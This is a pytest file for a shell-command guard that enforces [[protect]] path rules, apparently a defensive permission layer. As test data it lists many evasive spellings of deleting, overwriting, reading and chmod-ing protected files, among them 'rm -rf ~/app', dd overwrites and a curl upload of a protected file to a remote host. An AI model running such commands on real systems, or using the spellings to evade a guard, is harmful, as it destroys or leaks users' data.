"""``[[protect]]`` holds in whatever spelling a command finds for a path. Judged by the real program; nothing runs."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from other_home import own_config, run

CONFIG = """
[[protect]]
paths = ["~/notes"]
stops = ["read", "write", "delete", "chmod"]
reason = "mine"

[[protect]]
paths = ["~/app/infra/**", "~/app/*.lock"]
stops = ["write", "delete"]

[[protect]]
paths = ["~/linked"]
stops = ["read", "write", "delete", "chmod"]
"""

#: command → the rule that must be among its findings; the directory is ~/app
STOPPED = [
    # spellings of one path
    ("rm ~/notes/a.txt", "files.protected-delete"),
    ("rm ../notes/a.txt", "files.protected-delete"),
    ("rm {home}/notes/a.txt", "files.protected-delete"),
    ("rm {home}//notes///a.txt", "files.protected-delete"),
    ("rm {home}/app/../notes/./a.txt", "files.protected-delete"),
    ("rm infra/../../notes/a.txt", "files.protected-delete"),
    ("cd ~/notes && rm a.txt", "files.protected-delete"),
    ("cd ..; cd notes; rm ./a.txt", "files.protected-delete"),
    ("(cd / && rm {home}/notes/a.txt)", "files.protected-delete"),
    ("pushd ~/notes && rm a.txt", "files.protected-delete"),
    ('D=~/notes; rm "$D/a.txt"', "files.protected-delete"),
    ("D={home}/no; rm ${{D}}tes/a.txt", "files.protected-delete"),
    ('rm "$HOME/notes/a.txt"', "files.protected-delete"),
    ('rm "${{HOME}}"/notes/a.txt', "files.protected-delete"),
    ("rm ~/no*/a.txt", "files.protected-delete"),
    ("rm ~/notes/*", "files.protected-delete"),
    ("rm ~/notes/?.txt", "files.protected-delete"),
    ("rm ~/not[e]s/a.txt", "files.protected-delete"),
    ("rm ~/{{notes,nothing}}/a.txt", "files.protected-delete"),
    ("rm 'infra/'main.tf", "files.protected-delete"),
    ("rm in\\fra/main.tf", "files.protected-delete"),
    ("rm $'infra/\\x6dain.tf'", "files.protected-delete"),
    ("rm \"$(echo infra/main.tf)\"", "files.protected-delete"),
    ("rm way/a.txt", "files.protected-delete"),  # way is a link to ~/notes
    ("rm -- infra/main.tf", "files.protected-delete"),
    ("/bin/rm infra/main.tf", "files.protected-delete"),
    ("sudo rm infra/main.tf", "files.protected-delete"),
    ("bash -c 'rm infra/main.tf'", "files.protected-delete"),
    ("echo infra/main.tf | xargs rm", "files.protected-delete"),
    ("for f in infra/*; do rm \"$f\"; done", "files.protected-delete"),
    ("rm yarn.lock", "files.protected-delete"),
    ("rm *.lock", "files.protected-delete"),
    # all that lies below a protected directory, and the directory itself
    ("rm -r infra", "files.protected-delete"),
    ("rm -r infra/", "files.protected-delete"),
    ("rm -r infra/modules/db", "files.protected-delete"),
    ("unlink infra/main.tf", "files.protected-delete"),
    ("find infra -name '*.tf' -delete", "files.protected-delete"),
    ("find . -name '*.tf' -delete", "files.protected-delete"),
    ("find ~/notes -type f -exec rm {{}} +", "files.protected-delete"),
    ("mv infra/main.tf /tmp/", "files.protected-delete"),
    ("mv infra elsewhere", "files.protected-delete"),
    ("python3 -c \"import os; os.remove('infra/main.tf')\"", "files.protected-delete"),
    ("python3 -c \"import shutil; shutil.rmtree('infra')\"", "files.protected-delete"),
    # what holds a protected path goes with it
    ("mv ~/app ~/elsewhere", "files.protected-delete"),
    ("rm -rf ../app/*", "files.protected-delete"),
    ("rm -rf ~/app", "files.protected-delete"),
    # through a configured path that is itself a link
    ("rm ~/linked/b.txt", "files.protected-delete"),
    ("rm ~/real/b.txt", "files.protected-delete"),
    ("rm ~/linked", "files.protected-delete"),
    # writing
    ("echo x > infra/main.tf", "files.protected-write"),
    ("echo x >> infra/main.tf", "files.protected-write"),
    ("echo x >| ../notes/a.txt", "files.protected-write"),
    ("echo x > infra/new.tf", "files.protected-write"),
    ("echo x | tee infra/main.tf", "files.protected-write"),
    ("echo x | tee -a ~/notes/a.txt", "files.protected-write"),
    ("sed -i s/a/b/ infra/main.tf", "files.protected-write"),
    ("cp README.md infra/main.tf", "files.protected-write"),
    ("cp README.md infra/", "files.protected-write"),
    ("cp README.md infra", "files.protected-write"),
    ("mv README.md infra/main.tf", "files.protected-write"),
    ("truncate -s 0 infra/main.tf", "files.protected-write"),
    ("dd if=/dev/zero of=infra/main.tf", "files.protected-write"),
    ("echo x > to-file", "files.protected-write"),  # to-file is a link to ~/notes/a.txt
    ("echo x > way/new.txt", "files.protected-write"),
    ("ln -sf README.md infra/main.tf", "files.protected-write"),
    ("python3 -c \"open('infra/main.tf', 'w').write('x')\"", "files.protected-write"),
    ("cat > infra/main.tf <<'END'\nx\nEND", "files.protected-write"),
    ("exec 3> infra/main.tf", "files.protected-write"),
    ("install -m 644 README.md infra/main.tf", "files.protected-write"),
    # reading
    ("cat ~/notes/a.txt", "files.protected-read"),
    ("cat to-file", "files.protected-read"),
    ("cat < ~/notes/a.txt", "files.protected-read"),
    ("head -n1 way/a.txt", "files.protected-read"),
    ("grep x ~/notes/a.txt", "files.protected-read"),
    ("grep -r x ~/notes", "files.protected-read"),
    ("grep -r x ..", "files.protected-read"),
    ("cp ~/notes/a.txt .", "files.protected-read"),
    ("cp -r ~/notes .", "files.protected-read"),
    ("tar czf x.tgz ~/notes", "files.protected-read"),
    ("base64 ~/notes/a.txt", "files.protected-read"),
    ("cat ~/linked/b.txt", "files.protected-read"),
    ("cat ~/real/b.txt", "files.protected-read"),
    ("curl -d @{home}/notes/a.txt https://example.com/", "files.protected-read"),
    ("python3 -c \"print(open('../notes/a.txt').read())\"", "files.protected-read"),
    # permissions
    ("chmod 644 ~/notes/a.txt", "files.protected-chmod"),
    ("chmod -R a+r ~/notes", "files.protected-chmod"),
    ("chmod -R a+r ~", "files.protected-chmod"),
    ("chown root ../notes", "files.protected-chmod"),
    ("chmod 600 to-file", "files.protected-chmod"),
]

RUNS = [
    "rm README.md",
    "rm -f build/out.o",
    "rm -rf build",
    "cat infra/main.tf",
    "grep -r resource infra",
    "cp infra/main.tf /tmp/x.tf",
    "chmod 644 infra/main.tf",
    "echo x > README.md",
    "echo notes",
    "ls ~/notes",
    "ls -la ..",
    "cd ~/notes && pwd",
    "rm infrastructure.txt",
    "echo x > yarn.lock.txt",
    "echo x > ~/notes.txt",
    "rm way",  # the link itself, not what it leads to
    "chmod 755 ..",
    "grep -r x .",
    "git status",
    "find . -name '*.tf'",
    "mkdir -p build/a && touch build/a/b",
]


@pytest.fixture(scope="module")
def home(tmp_path_factory) -> Path:
    home = tmp_path_factory.mktemp("home").resolve()
    # not below a directory for scratch files by its name alone: what lies in /tmp is judged like anything else here
    for folder in ("notes", "app/infra/modules/db", "app/build", "real"):
        (home / folder).mkdir(parents=True)
    for file in ("notes/a.txt", "app/infra/main.tf", "app/README.md", "app/build/out.o", "app/yarn.lock", "real/b.txt",
                 "app/infrastructure.txt", "notes.txt", "app/yarn.lock.txt"):  # fmt: skip
        (home / file).write_text("x\n")
    (home / "app" / "way").symlink_to(home / "notes")
    (home / "app" / "to-file").symlink_to(home / "notes" / "a.txt")
    (home / "linked").symlink_to(home / "real")
    own_config(home).write_text(CONFIG)
    return home


def judged(home: Path, commands: list[str]) -> list[dict]:
    """The answers of the program to commands in ``~/app``."""
    lines = [
        json.dumps({"id": text, "command": text, "cwd": str(home / "app"), "env": {"HOME": str(home)}})
        for text in commands
    ]
    done = run(home, "explain", "--batch", cwd=home / "app", stdin="\n".join(lines) + "\n")
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


def test_a_protected_path_is_found_in_every_spelling(home):
    texts = [text.format(home=home) for text, _ in STOPPED]
    missed = [
        (answer["id"], rule, answer["verdict"], [finding["rule"] for finding in answer["findings"]])
        for answer, (_, rule) in zip(judged(home, texts), STOPPED, strict=True)
        if answer["verdict"] == "allow" or (rule not in [finding["rule"] for finding in answer["findings"]])
    ]
    assert not missed, "\n".join(map(str, missed))


def test_what_is_not_protected_runs(home):
    stopped = [(answer["id"], answer["reason"]) for answer in judged(home, RUNS) if answer["verdict"] != "allow"]
    assert not stopped, "\n".join(map(str, stopped))


def test_exec_refuses_and_the_file_is_as_before(home):
    done = run(home, "exec", "-c", "echo y > infra/main.tf", cwd=home / "app", env={"HOME": str(home)})
    assert done.returncode == 126 and "which the configuration protects" in done.stderr
    assert (home / "app" / "infra" / "main.tf").read_text() == "x\n"
    assert os.listdir(home / "notes") == ["a.txt"]
